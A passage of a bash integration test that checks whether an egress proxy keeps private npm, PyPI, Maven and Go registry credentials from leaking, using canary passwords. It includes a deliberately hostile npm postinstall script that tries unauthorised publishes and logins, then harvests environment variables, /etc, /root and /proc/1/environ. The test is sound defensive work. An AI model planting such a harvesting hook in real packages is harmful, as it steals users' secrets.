#!/usr/bin/env bash
# test_worker_private_registry.sh: private dependencies installed by each
# ecosystem's real client from real private registry servers, with the
# credential held by the worker's egress proxy alone.
#
# The registries run in a network namespace of the test's own (a veth to
# the host, 10.251.N.0/29), each with a certificate from a test CA: Verdaccio
# (ops/registries.sh) as npm.acme.test, which lets only its user acme-npm
# read @acme/*, and pypiserver as pypi.acme.test, behind Basic users. The
# worker finds them by KIWI_EGRESS_HOSTS_FILE, trusts their CA by
# KIWI_PRIVATE_REGISTRY_CA and holds tenant A's credentials by
# KIWI_PRIVATE_REGISTRIES (files of the test's, each a canary password).
#
#   1. tenant A's worker installs @acme/secret-lib with npm, pnpm and Yarn,
#      acme-secret with pip and uv, com.acme:secret with Maven (a
#      repository under a path prefix, /repo, that redirects the jar's
#      download to its storage, cdn.acme.test, which no setting names:
#      the worker derives it from the redirect) and go.acme.test/secret with
#      Go (a GOPROXY's files under /mod, KIWI_GO_PROXY and KIWI_GO_NOSUMDB),
#      through its proxy, from an empty cache;
#      step 0 passes (the tests already pass). The registries' own logs show each read came with
#      tenant A's user, added by the proxy.
#      Each install's fetch manifest (fetched.json in its snapshot, its
#      digest and counts in the install event) lists the private package
#      with the SHA-256 of the file the registry holds.
#      A repository whose .npmrc reads its token from ${NPM_TOKEN} installs
#      and tests with the placeholder the worker gives it
#      (KIWI_PRIVATE_REGISTRY_PLACEHOLDERS), which the proxy replaces.
#   2. a hostile dependency's install script (@acme/hook) publishes, logs in,
#      sends an Authorization of its own and reads the Maven repository's
#      host outside the prefix its credential is declared for: the writes are refused by the
#      proxy (its log, egress_denied events with the method) and reach no
#      registry; its read arrives with tenant A's user, never its own. It
#      writes everything it could see (its environment, its files) into the
#      snapshot, searched below.
#   3. fleet tenancy: three more workers, each with a state directory of its
#      own (another host) and the same store: with tenant A's credential in
#      another file, the snapshot comes from the store, its fetch manifest
#      with it; without any
#      declaration the install runs afresh and fails, naming the host the
#      proxy refused; with tenant B's credential (a user the registry does
#      not let read @acme) it runs afresh and fails. Neither is laid
#      tenant A's snapshot.
#      A task whose tests fail reaches the model (the scripted provider,
#      which records every request): its tests print their environment and
#      what the hostile install script recorded, so the model's prompt holds
#      all of it.
#   4. the canaries (each password and its Basic form) are searched from
#      outside: every file under the workers' state directories (snapshots,
#      workspaces, the proxies' logs) but each proxy's squid.conf, which
#      holds them by design and is proxy's and 600; the store's blobs this
#      run wrote; every topic of the run (kcat); the model's prompts; the
#      workers' logs; the
#      environment and command line of every process on the host.
#
# With KIWI_TEST_EGRESS_APPLY=true every worker also applies the host's
# egress rules (KIWI_EGRESS_APPLY, production's configuration), checked from
# its heartbeat and iptables, and removed at the end; the suite runs it
# without (applying them would change every other test's sandboxes).
. "$(dirname "$0")/lib.sh"
need_services
[ "$(id -u)" = 0 ] || { echo "SKIP: root (network namespaces; squid drops to its own user)"; exit 77; }
skip_or_fail() { [ "${KIWI_REQUIRE_SERVICES:-0}" = 1 ] && fail "$1"; echo "SKIP: $1"; exit 77; }
command -v squid >/dev/null || skip_or_fail "squid missing (squid-openssl)"
# KIWI_TEST_EGRESS_APPLY=true: production's configuration, each worker
# applying the host's egress rules for its own install bridge and proxy
# ports (KIWI_EGRESS_APPLY), removed when the test ends. It changes every
# other sandbox's network meanwhile, so the suite leaves it out (it would
# hold the whole machine); run it alone.
APPLY=${KIWI_TEST_EGRESS_APPLY:-false}
case $APPLY in true|false) ;; *) fail "KIWI_TEST_EGRESS_APPLY=$APPLY: true or false" ;; esac
if [ "$APPLY" = true ]; then
  exec 8>/run/kiwi-netns.lock # shared with the other tests that apply the rules
  flock -w 120 8 || fail "another test holds /run/kiwi-netns.lock"
  bash "$ROOT/ops/egress/egress.sh" status >/dev/null 2>&1 &&
    skip_or_fail "egress rules are applied on this host already (this run applies them through the workers and removes them)"
else
  bash "$ROOT/ops/egress/egress.sh" status >/dev/null 2>&1 &&
    { echo "SKIP: egress rules are applied on this host (they would close the test's proxy ports)"; exit 77; }
fi
VERDACCIO=$(bash "$ROOT/ops/registries.sh" --print verdaccio)
PYPI_PY=$(bash "$ROOT/ops/registries.sh" --print pypi)
{ [ -r "$VERDACCIO" ] && [ -x "$PYPI_PY" ]; } || skip_or_fail "the test registries are not installed (bash ops/registries.sh)"
touch "$TMP/start"

# ---- the registries' network namespace
N=$(( $$ % 250 ))
NS="kprv$$" VH="kprv$$h" VN="kprv$$n" NET="10.251.$N"
NPM_IP="$NET.2" PYPI_IP="$NET.3" MVN_IP="$NET.4" GO_IP="$NET.5" CDN_IP="$NET.6"
on_cleanup() {
  ip netns del "$NS" 2>/dev/null || true
  ip link del "$VH" 2>/dev/null || true
  rm -rf "/etc/netns/$NS"
  if [ "$APPLY" = true ]; then
    bash "$ROOT/ops/egress/egress.sh" remove >>"$TMP/egress-remove.out" 2>&1 ||
      log "cleanup: egress.sh remove failed: $(tail -n 5 "$TMP/egress-remove.out")"
  fi
}
ip netns add "$NS"
ip link add "$VH" type veth peer name "$VN"
ip link set "$VN" netns "$NS"
ip addr add "$NET.1/29" dev "$VH"
ip link set "$VH" up
ip -n "$NS" addr add "$NPM_IP/29" dev "$VN"
ip -n "$NS" addr add "$PYPI_IP/29" dev "$VN"
ip -n "$NS" addr add "$MVN_IP/29" dev "$VN"
ip -n "$NS" addr add "$GO_IP/29" dev "$VN"
ip -n "$NS" addr add "$CDN_IP/29" dev "$VN"
ip -n "$NS" link set "$VN" up
ip -n "$NS" link set lo up
# names: for Squid (KIWI_EGRESS_HOSTS_FILE, readable by proxy) and for the
# test's own clients inside the namespace (ip netns exec's /etc/netns)
R="$TMP/registries"
mkdir -p "$R" "/etc/netns/$NS"
printf '127.0.0.1 localhost\n%s npm.acme.test\n%s pypi.acme.test\n%s maven.acme.test\n%s go.acme.test\n%s cdn.acme.test\n' \
  "$NPM_IP" "$PYPI_IP" "$MVN_IP" "$GO_IP" "$CDN_IP" | tee "$R/hosts" >"/etc/netns/$NS/hosts"
chmod 644 "$R/hosts"
chmod 755 "$R"

# ---- a test CA and the registries' certificate
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$R/ca.key" -out "$R/ca.pem" -days 2 -subj '/CN=Kiwi test registry CA' \
  -addext basicConstraints=critical,CA:TRUE -addext keyUsage=keyCertSign,cRLSign 2>/dev/null
openssl req -newkey rsa:2048 -nodes -keyout "$R/srv.key" -out "$R/srv.csr" -subj '/CN=npm.acme.test' 2>/dev/null
printf 'subjectAltName=DNS:npm.acme.test,DNS:pypi.acme.test,DNS:maven.acme.test,DNS:go.acme.test,DNS:cdn.acme.test\nextendedKeyUsage=serverAuth\n' >"$R/ext"
openssl x509 -req -in "$R/srv.csr" -CA "$R/ca.pem" -CAkey "$R/ca.key" -CAcreateserial -out "$R/srv.pem" -days 2 \
  -extfile "$R/ext" 2>/dev/null
chmod 644 "$R/ca.pem"

# ---- the canaries: tenant A's and B's passwords, and their Basic forms
PW_A_NPM="kiwi-canary-npm-a-$(openssl rand -hex 12)"
PW_A_PYPI="kiwi-canary-pypi-a-$(openssl rand -hex 12)"
PW_B_NPM="kiwi-canary-npm-b-$(openssl rand -hex 12)"
PW_A_MVN="kiwi-canary-maven-a-$(openssl rand -hex 12)"
PW_A_GO="kiwi-canary-go-a-$(openssl rand -hex 12)"
basic() { printf '%s:%s' "$1" "$2" | base64 -w0; }
CANARIES=("$PW_A_NPM" "$PW_A_PYPI" "$PW_B_NPM" "$(basic acme-npm "$PW_A_NPM")" "$(basic acme-pypi "$PW_A_PYPI")"
  "$(basic other-npm "$PW_B_NPM")" "$PW_A_MVN" "$(basic acme-maven "$PW_A_MVN")" "$PW_A_GO" "$(basic acme-go "$PW_A_GO")")
C="$TMP/creds"
mkdir -p "$C/a" "$C/a2" "$C/b"
chmod 700 "$C"
printf 'Basic %s\n' "$(basic acme-npm "$PW_A_NPM")" >"$C/a/npm.auth"
printf 'Basic %s\n' "$(basic acme-pypi "$PW_A_PYPI")" >"$C/a/pypi.auth"
printf 'Basic %s\n' "$(basic acme-maven "$PW_A_MVN")" >"$C/a/maven.auth"
printf 'Basic %s\n' "$(basic acme-go "$PW_A_GO")" >"$C/a/go.auth"
cp "$C/a/npm.auth" "$C/a/pypi.auth" "$C/a/maven.auth" "$C/a/go.auth" "$C/a2/"
printf 'Basic %s\n' "$(basic other-npm "$PW_B_NPM")" >"$C/b/npm.auth"
cp "$C/a/pypi.auth" "$C/a/maven.auth" "$C/a/go.auth" "$C/b/"
chmod 600 "$C"/*/*.auth

# ---- Verdaccio: @acme/* and everything else readable and publishable by
# acme-npm alone; other-npm a user of the registry who may read nothing
V="$R/verdaccio"
mkdir -p "$V/storage"
{ printf 'acme-npm:%s\n' "$(openssl passwd -apr1 "$PW_A_NPM")"
  printf 'other-npm:%s\n' "$(openssl passwd -apr1 "$PW_B_NPM")"; } >"$V/htpasswd"
cat >"$V/config.yaml" <<EOF
storage: $V/storage
auth:
  htpasswd:
    file: $V/htpasswd
    max_users: -1
uplinks: {}
packages:
  '**':
    access: acme-npm
    publish: acme-npm
listen: https://$NPM_IP:443
https:
  key: $R/srv.key
  cert: $R/srv.pem
log: { type: file, path: $V/requests.log, format: json, level: http }
web: { enable: false }
EOF
ip netns exec "$NS" node "$VERDACCIO" -c "$V/config.yaml" >"$TMP/verdaccio.log" 2>&1 &
PIDS+=($!)
# registry_tls KIND ADDR ROOT DIR USER PASSWORD: registry_tls.py in the
# namespace, behind USER alone (DIR/htpasswd), its requests in DIR/requests.log
registry_tls() {
  local users=-
  if [ -n "$5" ]; then users=$4/htpasswd; printf '%s:%s\n' "$5" "$(openssl passwd -apr1 "$6")" >"$users"; fi
  ip netns exec "$NS" "$PYPI_PY" "$ROOT/tests/worker/sh/registry_tls.py" "$1" "$2" 443 "$R/srv.pem" "$R/srv.key" \
    "$3" "$users" "$4/requests.log" >"$TMP/registry-$1-$2.log" 2>&1 &
  PIDS+=($!)
}
# ---- pypiserver: acme-pypi's, every action behind it
P="$R/pypi"
mkdir -p "$P/packages"
registry_tls pypi "$PYPI_IP" "$P/packages" "$P" acme-pypi "$PW_A_PYPI"
# ---- a Maven repository under /repo: its files over TLS behind acme-maven
M="$R/maven"
mkdir -p "$M/repo" "$M/other"
echo "another team's file, outside /repo" >"$M/other/secret.txt"
registry_tls files "$MVN_IP" "$M" "$M" acme-maven "$PW_A_MVN"
# ---- a Go module proxy under /mod (the GOPROXY protocol is files): acme-go's
G="$R/go"
mkdir -p "$G/mod"
registry_tls files "$GO_IP" "$G" "$G" acme-go "$PW_A_GO"
# ---- the Maven repository's storage: its signed URLs need no user
S="$R/cdn"
mkdir -p "$S/blob"
registry_tls files "$CDN_IP" "$S" "$S" "" ""
in_ns() { ip netns exec "$NS" "$@"; }
up=0
for _ in $(seq 1 100); do
  if in_ns curl -sf --cacert "$R/ca.pem" https://npm.acme.test/-/ping -o /dev/null &&
    in_ns curl -s --cacert "$R/ca.pem" https://pypi.acme.test/simple/ -o /dev/null &&
    in_ns curl -s --cacert "$R/ca.pem" https://maven.acme.test/ -o /dev/null &&
    in_ns curl -s --cacert "$R/ca.pem" https://go.acme.test/ -o /dev/null &&
    in_ns curl -s --cacert "$R/ca.pem" https://cdn.acme.test/ -o /dev/null; then up=1; break; fi
  sleep 0.2
done
[ "$up" = 1 ] || fail "the registries did not start: $(tail -n 5 "$TMP/verdaccio.log" "$TMP"/registry-*.log)"
log "Verdaccio on $NPM_IP (npm.acme.test), pypiserver on $PYPI_IP (pypi.acme.test), a Maven repository on $MVN_IP (maven.acme.test/repo), a Go module proxy on $GO_IP (go.acme.test/mod), namespace $NS"

# ---- the private packages, published by the test from inside the namespace
printf '@acme:registry=https://npm.acme.test/\n//npm.acme.test/:_auth=%s\ncafile=%s\n' \
  "$(basic acme-npm "$PW_A_NPM")" "$R/ca.pem" >"$C/publish.npmrc"
publish() { # DIR
  (cd "$1" && in_ns npm publish --userconfig "$C/publish.npmrc" >"$TMP/publish-$(basename "$1").log" 2>&1) ||
    fail "publishing $(basename "$1"): $(cat "$TMP/publish-$(basename "$1").log")"
}
mkdir -p "$R/pkg/secret-lib" "$R/pkg/hook"
cat >"$R/pkg/secret-lib/package.json" <<'EOF'
{"name": "@acme/secret-lib", "version": "1.0.0", "main": "index.js"}
EOF
echo 'exports.ok = () => "acme secret-lib ok";' >"$R/pkg/secret-lib/index.js"
publish "$R/pkg/secret-lib"
# the hostile one: its install script publishes, logs in and reads with an
# Authorization of its own, then writes what it could see into its folder
cat >"$R/pkg/hook/package.json" <<'EOF'
{"name": "@acme/hook", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node hook.js"}}
EOF
echo 'exports.ok = () => "acme hook ok";' >"$R/pkg/hook/index.js"
cat >"$R/pkg/hook/hook.js" <<'EOF'
// A hostile install script: tries to send out through the private registry,
// then records everything it could see. Never fails the install.
const { execFileSync } = require("child_process");
const fs = require("fs");
const curl = (...a) => { try { return execFileSync("curl", ["-s", "-o", "/dev/null", "-w", "%{http_code}", ...a], { encoding: "utf8" }); } catch (e) { return "error " + e.status; } };
const seen = { tried: {} };
seen.tried.publish = curl("-X", "PUT", "-H", "Content-Type: application/json", "--data", '{"name":"@acme/stolen"}', "https://npm.acme.test/@acme%2fstolen");
seen.tried.login = curl("-X", "PUT", "-H", "Content-Type: application/json", "--data", '{"name":"intruder","password":"x"}', "https://npm.acme.test/-/user/org.couchdb.user:intruder");
seen.tried.own_auth = curl("-H", "Authorization: Basic aW50cnVkZXI6c3RvbGVu", "https://npm.acme.test/@acme%2fsecret-lib");
seen.tried.pypi_upload = curl("-X", "POST", "-F", ":action=file_upload", "https://pypi.acme.test/");
// the Maven repository's host outside the prefix the credential is declared for
seen.tried.outside_prefix = curl("https://maven.acme.test/other/secret.txt");
seen.tried.outside_prefix_own_auth = curl("-H", "Authorization: Basic YWNtZS1tYXZlbjpndWVzcw==", "https://maven.acme.test/other/secret.txt");
seen.env = process.env;
const files = {};
const walk = (d, depth) => {
  if (depth > 6) return;
  let ents = [];
  try { ents = fs.readdirSync(d, { withFileTypes: true }); } catch (e) { return; }
  for (const e of ents) {
    const p = d + "/" + e.name;
    if (p.startsWith("/proc") || p.startsWith("/sys") || p.startsWith("/dev") || p.includes("node_modules")) continue;
    if (e.isDirectory()) walk(p, depth + 1);
    else if (e.isFile()) { try { const s = fs.statSync(p); if (s.size < 65536) files[p] = fs.readFileSync(p, "utf8"); } catch (x) {} }
  }
};
for (const d of ["/kiwi", "/root", "/etc", "/tmp"]) walk(d, 0);
seen.files = files;
try { seen.proc_environ = fs.readFileSync("/proc/1/environ", "utf8"); } catch (e) {}
fs.writeFileSync(__dirname + "/seen.json", JSON.stringify(seen));
console.log("hook: " + JSON.stringify(seen.tried));
EOF
publish "$R/pkg/hook"
# acme-secret, a wheel dropped into pypiserver's folder
python3 - "$P/packages" <<'PY'
import base64, hashlib, sys, zipfile
files = {
    "acme_secret/__init__.py": "def ok():\n    return 'acme secret ok'\n",
    "acme_secret-1.0.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: acme-secret\nVersion: 1.0.0\n",
    "acme_secret-1.0.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: kiwi-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
def digest(b):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
files["acme_secret-1.0.0.dist-info/RECORD"] = "".join(
    "%s,%s,%d\n" % (n, digest(t.encode()), len(t.encode())) for n, t in files.items()) + "acme_secret-1.0.0.dist-info/RECORD,,\n"
with zipfile.ZipFile(sys.argv[1] + "/acme_secret-1.0.0-py3-none-any.whl", "w") as z:
    for n, t in files.items():
        z.writestr(n, t)
PY

# ---- the repositories, each new to this run; no credential in any of them
# packument field F of @acme/NAME (from inside the namespace, with A's user)
dist_of() { in_ns curl -sf --cacert "$R/ca.pem" -u "acme-npm:$PW_A_NPM" "https://npm.acme.test/@acme%2f$1" |
  python3 -c 'import json,sys; print(json.load(sys.stdin)["versions"]["1.0.0"]["dist"][sys.argv[1]])' "$2"; }
LIB_SHA512=$(dist_of secret-lib integrity)
HOOK_SHA512=$(dist_of hook integrity)
LIB_SHA1=$(dist_of secret-lib shasum)
node_repo() { # NAME DEPS-JSON: a package.json whose test requires @acme/secret-lib, and an .npmrc naming the registry
  local d="$TMP/repo-$1"
  mkdir -p "$d"
  python3 - "$d/package.json" "$1" "$RUN_ID" "$2" <<'PY'
import json, sys
path, name, run, deps = sys.argv[1:5]
json.dump({"name": "private-" + name, "version": "1.0.0", "private": True,
           "description": "private registry %s %s" % (name, run),
           "scripts": {"test": "node -e \"console.log(require('@acme/secret-lib').ok())\""},
           "dependencies": json.loads(deps)}, open(path, "w"), indent=2)
PY
  printf '@acme:registry=https://npm.acme.test/\n' >"$d/.npmrc"
}
node_repo npm '{"@acme/secret-lib": "1.0.0"}'
(cd "$TMP/repo-npm" && in_ns npm install --package-lock-only --ignore-scripts --userconfig "$C/publish.npmrc" >"$TMP/lock-npm.log" 2>&1) ||
  fail "the npm lockfile: $(cat "$TMP/lock-npm.log")"
commit_dir "$TMP/repo-npm" "npm, a private dependency"
# the same, with the token its .npmrc reads from the environment (as a
# developer's machine and the project's CI have it)
node_repo npmtoken '{"@acme/secret-lib": "1.0.0"}'
cp "$TMP/repo-npm/package-lock.json" "$TMP/repo-npmtoken/"
printf '//npm.acme.test/:_authToken=${NPM_TOKEN}\n' >>"$TMP/repo-npmtoken/.npmrc"
# and, as many projects do, its install and its tests insist on the token
python3 - "$TMP/repo-npmtoken/package.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1]))
need = "if (!process.env.NPM_TOKEN) { console.error('NPM_TOKEN is required'); process.exit(1) }"
p["scripts"]["preinstall"] = 'node -e "%s"' % need
p["scripts"]["test"] = 'node -e "%s; console.log(require(\'@acme/secret-lib\').ok())"' % need
json.dump(p, open(sys.argv[1], "w"), indent=2)
PY
commit_dir "$TMP/repo-npmtoken" "npm, a private dependency, the token from NPM_TOKEN"
node_repo pnpm '{"@acme/secret-lib": "1.0.0"}'
cat >"$TMP/repo-pnpm/pnpm-lock.yaml" <<EOF
lockfileVersion: '9.0'

settings:
  autoInstallPeers: true
  excludeLinksFromLockfile: false

importers:

  .:
    dependencies:
      '@acme/secret-lib':
        specifier: 1.0.0
        version: 1.0.0

packages:

  '@acme/secret-lib@1.0.0':
    resolution: {integrity: $LIB_SHA512}

snapshots:

  '@acme/secret-lib@1.0.0': {}
EOF
commit_dir "$TMP/repo-pnpm" "pnpm, a private dependency"
node_repo yarn '{"@acme/secret-lib": "1.0.0"}'
cat >"$TMP/repo-yarn/yarn.lock" <<EOF
# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


"@acme/secret-lib@1.0.0":
  version "1.0.0"
  resolved "https://npm.acme.test/@acme/secret-lib/-/secret-lib-1.0.0.tgz#$LIB_SHA1"
  integrity $LIB_SHA512
EOF
commit_dir "$TMP/repo-yarn" "yarn, a private dependency"
node_repo hook '{"@acme/secret-lib": "1.0.0", "@acme/hook": "1.0.0"}'
(cd "$TMP/repo-hook" && in_ns npm install --package-lock-only --ignore-scripts --userconfig "$C/publish.npmrc" >"$TMP/lock-hook.log" 2>&1) ||
  fail "the hook's lockfile: $(cat "$TMP/lock-hook.log")"
commit_dir "$TMP/repo-hook" "a private dependency with a hostile install script"
# the same dependencies, and tests that fail after printing what they can
# see (their environment, the hostile script's record): all of it goes to
# the model
mkdir -p "$TMP/repo-seen"
cp "$TMP/repo-hook/package-lock.json" "$TMP/repo-hook/.npmrc" "$TMP/repo-seen/"
python3 - "$TMP/repo-hook/package.json" "$TMP/repo-seen/package.json" "$RUN_ID" <<'PY'
import json, sys
p = json.load(open(sys.argv[1]))
p["scripts"]["test"] = ("node -e \"console.log('kiwi-model-sees-%s'); "
                        "for (const [k, v] of Object.entries(process.env)) console.log(k + '=' + v); "
                        "try { const s = JSON.parse(require('fs').readFileSync('node_modules/@acme/hook/seen.json', 'utf8')); "
                        "console.log('hook tried ' + JSON.stringify(s.tried)); "
                        "for (const [k, v] of Object.entries(s.env)) console.log('hook saw ' + k + '=' + v) } "
                        "catch (e) { console.log('no hook record: ' + e) } process.exit(1)\"" % sys.argv[3])
json.dump(p, open(sys.argv[2], "w"), indent=2)
PY
commit_dir "$TMP/repo-seen" "failing tests that print what they see"
# the scripted provider: records each request; its one turn ends the session
mkdir -p "$TMP/scripts"
printf '{"provider": "anthropic", "turns": [{"status": 400, "response": {"type": "error", "error": {"type": "invalid_request_error", "message": "kiwi test: the prompt is recorded"}}}]}\n' >"$TMP/scripts/seen.json"
python3 "$ROOT/tests/scripted_provider/server.py" --scripts "$TMP/scripts" --port-file "$TMP/provider.port" \
  --log "$TMP/provider-requests.jsonl" --parent-pid $$ >"$TMP/provider.log" 2>&1 &
PIDS+=($!)
for _ in $(seq 1 100); do [ -s "$TMP/provider.port" ] && break; sleep 0.1; done
[ -s "$TMP/provider.port" ] || fail "the scripted provider did not start"
PROVIDER_PORT=$(cat "$TMP/provider.port")
mkdir -p "$TMP/repo-pip"
printf -- '--index-url https://pypi.acme.test/simple/\nacme-secret==1.0.0\n' >"$TMP/repo-pip/requirements.txt"
printf 'private registry pip %s\n' "$RUN_ID" >"$TMP/repo-pip/README"
commit_dir "$TMP/repo-pip" "pip, a private dependency"
PIP_TEST="python -c 'import acme_secret; print(acme_secret.ok())'"
# uv: the index in pyproject.toml, uv.lock made by the image's own uv (copied
# out of kiwi/python:3.13) from inside the namespace with acme-pypi's user
mkdir -p "$TMP/repo-uv" "$R/uv"
cat >"$TMP/repo-uv/pyproject.toml" <<EOF
[project]
name = "private-uv"
version = "1.0.0"
description = "private registry uv $RUN_ID"
requires-python = ">=3.11"
dependencies = ["acme-secret==1.0.0"]

[[tool.uv.index]]
name = "acme"
url = "https://pypi.acme.test/simple/"
explicit = true

[tool.uv.sources]
acme-secret = { index = "acme" }
EOF
uv_cid=$("${DOCKER[@]}" create kiwi/python:3.13 true)
"${DOCKER[@]}" cp -L "$uv_cid:/usr/local/bin/uv" "$R/uv/uv" >/dev/null
"${DOCKER[@]}" rm "$uv_cid" >/dev/null
(cd "$TMP/repo-uv" && in_ns env UV_INDEX_ACME_USERNAME=acme-pypi UV_INDEX_ACME_PASSWORD="$PW_A_PYPI" SSL_CERT_FILE="$R/ca.pem" \
  UV_NATIVE_TLS=1 UV_PYTHON_DOWNLOADS=never UV_CACHE_DIR="$R/uv/cache" "$R/uv/uv" lock --python /usr/bin/python3 \
  >"$TMP/lock-uv.log" 2>&1) || fail "the uv lockfile: $(cat "$TMP/lock-uv.log")"
grep -q 'pypi.acme.test/packages/acme_secret-1.0.0-py3-none-any.whl' "$TMP/repo-uv/uv.lock" ||
  fail "uv.lock does not name the private wheel: $(cat "$TMP/repo-uv/uv.lock")"
commit_dir "$TMP/repo-uv" "uv, a private dependency"
# Maven: com.acme:secret:1.0.0 built in kiwi/java:17 (no network) into the
# repository's layout; the project names the repository in its pom
mkdir -p "$R/mvn-src/com/acme" "$M/repo/com/acme/secret/1.0.0"
printf 'package com.acme;\npublic class Secret { public static String ok() { return "acme secret ok"; } }\n' \
  >"$R/mvn-src/com/acme/Secret.java"
"${DOCKER[@]}" run --rm --network none -u 0:0 -v "$R/mvn-src:/w" -w /w kiwi/java:17 \
  sh -c 'javac --release 17 -d classes com/acme/Secret.java && jar cf secret.jar -C classes .' >"$TMP/mvn-build.log" 2>&1 ||
  fail "building the private jar: $(cat "$TMP/mvn-build.log")"
d="$M/repo/com/acme/secret/1.0.0"
cp "$R/mvn-src/secret.jar" "$d/secret-1.0.0.jar"
# the repository sends the jar's download to its storage (a signed URL)
JAR_SHA256=$(sha256sum <"$d/secret-1.0.0.jar" | cut -d' ' -f1)
cp "$d/secret-1.0.0.jar" "$S/blob/$JAR_SHA256"
printf 'https://cdn.acme.test/blob/%s?sig=kiwi-%s\n' "$JAR_SHA256" "$RUN_ID" >"$d/secret-1.0.0.jar.redirect"
cat >"$d/secret-1.0.0.pom" <<'EOF'
<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>
  <groupId>com.acme</groupId><artifactId>secret</artifactId><version>1.0.0</version></project>
EOF
for f in "$d"/secret-1.0.0.jar "$d"/secret-1.0.0.pom; do sha1sum "$f" | cut -d' ' -f1 >"$f.sha1"; done
mkdir -p "$TMP/repo-maven/src/main/java/app"
cat >"$TMP/repo-maven/pom.xml" <<EOF
<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>
  <groupId>app</groupId><artifactId>private-maven</artifactId><version>1.0.0</version>
  <description>private registry maven $RUN_ID</description>
  <properties><maven.compiler.source>17</maven.compiler.source><maven.compiler.target>17</maven.compiler.target>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding></properties>
  <repositories><repository><id>acme</id><url>https://maven.acme.test/repo</url></repository></repositories>
  <dependencies><dependency><groupId>com.acme</groupId><artifactId>secret</artifactId><version>1.0.0</version></dependency></dependencies>
</project>
EOF
printf 'package app;\npublic class App { public static String run() { return com.acme.Secret.ok(); } }\n' \
  >"$TMP/repo-maven/src/main/java/app/App.java"
commit_dir "$TMP/repo-maven" "maven, a private dependency"
[ -n "$HOOK_SHA512" ] || fail "no integrity for @acme/hook"
# Go: go.acme.test/secret v1.0.0 as a module proxy serves it (list, info,
# mod, zip), and a repository that requires it with its go.sum lines
mkdir -p "$TMP/repo-go"
python3 - "$G/mod/go.acme.test/secret/@v" "$TMP/repo-go" <<'PY'
import base64, hashlib, io, os, sys, zipfile
at, repo = sys.argv[1:3]
os.makedirs(at)
mod = "module go.acme.test/secret\n\ngo 1.21\n"
src = 'package secret\n\nfunc Ok() string { return "acme secret ok" }\n'
pre = "go.acme.test/secret@v1.0.0/"
files = {pre + "go.mod": mod.encode(), pre + "secret.go": src.encode()}
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for n, b in files.items():
        z.writestr(n, b)
open(at + "/v1.0.0.zip", "wb").write(buf.getvalue())
open(at + "/v1.0.0.mod", "w").write(mod)
open(at + "/v1.0.0.info", "w").write('{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}')
open(at + "/list", "w").write("v1.0.0\n")
def h1(entries):  # Go's dirhash Hash1
    summary = "".join("%s  %s\n" % (hashlib.sha256(b).hexdigest(), n) for n, b in sorted(entries.items()))
    return "h1:" + base64.b64encode(hashlib.sha256(summary.encode()).digest()).decode()
open(repo + "/go.mod", "w").write("module app\n\ngo 1.21\n\nrequire go.acme.test/secret v1.0.0\n")
open(repo + "/go.sum", "w").write("go.acme.test/secret v1.0.0 %s\ngo.acme.test/secret v1.0.0/go.mod %s\n" % (
    h1(files), h1({"go.mod": mod.encode()})))
open(repo + "/app_test.go", "w").write('package app\n\nimport (\n\t"testing"\n\n\t"go.acme.test/secret"\n)\n\n'
    'func TestSecret(t *testing.T) {\n\tif secret.Ok() != "acme secret ok" {\n\t\tt.Fatal(secret.Ok())\n\t}\n}\n')
PY
commit_dir "$TMP/repo-go" "go, a private module"
ZIP_SHA256=$(sha256sum <"$G/mod/go.acme.test/secret/@v/v1.0.0.zip" | cut -d' ' -f1)
# the SHA-256 of each private file as its registry holds it, for the fetch
# manifests
LIB_SHA256=$(in_ns curl -sf --cacert "$R/ca.pem" -u "acme-npm:$PW_A_NPM" \
  "https://npm.acme.test/@acme/secret-lib/-/secret-lib-1.0.0.tgz" | sha256sum | cut -d' ' -f1)
WHL_SHA256=$(sha256sum <"$P/packages/acme_secret-1.0.0-py3-none-any.whl" | cut -d' ' -f1)

# ---- the workers: each a host of the fleet (a state directory of its own,
# the stack's store shared)
PORTS_BASE=$(( 20000 + $$ % 5000 * 3 ))
registry_worker() { # NAME CREDS-DIR (empty: no declaration)
  local name=$1 creds=$2 decl=()
  mkdir -p "$TMP/state-$name"
  [ -n "$creds" ] &&
    decl=(KIWI_PRIVATE_REGISTRIES="npm.acme.test=@$creds/npm.auth pypi.acme.test=@$creds/pypi.auth maven.acme.test/repo=@$creds/maven.auth go.acme.test/mod=@$creds/go.auth"
      "KIWI_GO_PROXY=https://go.acme.test/mod,https://proxy.golang.org" "KIWI_GO_NOSUMDB=go.acme.test/*"
      KIWI_PRIVATE_REGISTRY_PLACEHOLDERS=NPM_TOKEN)
  worker_start "$name" KIWI_SLOTS=2 KIWI_EGRESS_INTERVAL=300 KIWI_EGRESS_STOP_WHEN_DEGRADED=false KIWI_EGRESS_APPLY="$APPLY" \
    KIWI_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt KIWI_STATE_DIR="$TMP/state-$name" KIWI_INSTALL_EGRESS=registries \
    KIWI_INSTALL_PROXY_PORTS="$PORTS_BASE,$((PORTS_BASE + 1)),$((PORTS_BASE + 2))" \
    KIWI_PRIVATE_REGISTRY_CA="$R/ca.pem" KIWI_EGRESS_HOSTS_FILE="$R/hosts" "${decl[@]}"
  wait_hb "$name" 'checks.get("egress_proxy", {}).get("ok") is True' 60 ||
    fail "worker $name: no egress proxy: $(tail -n 20 "$TMP/worker-$name.log")"
  if [ "$APPLY" = true ]; then
    # the rules hold, as the worker's checks see them and as iptables has
    # them for its install bridge
    wait_hb "$name" 'checks.get("install_dns_closed", {}).get("ok") is True and checks.get("metadata_blocked", {}).get("ok") is True' 120 ||
      fail "worker $name: the egress rules do not hold: $(hb_of "$name" 'checks' 2>&1 | cut -c1-600)"
    local br
    br=$(hb_of "$name" 'checks["egress_proxy"]["detail"]' | sed -nE 's/.* \((kiwi-install[0-9]*)\) ports .*/\1/p')
    # (the rules name every install bridge: kiwi-install+)
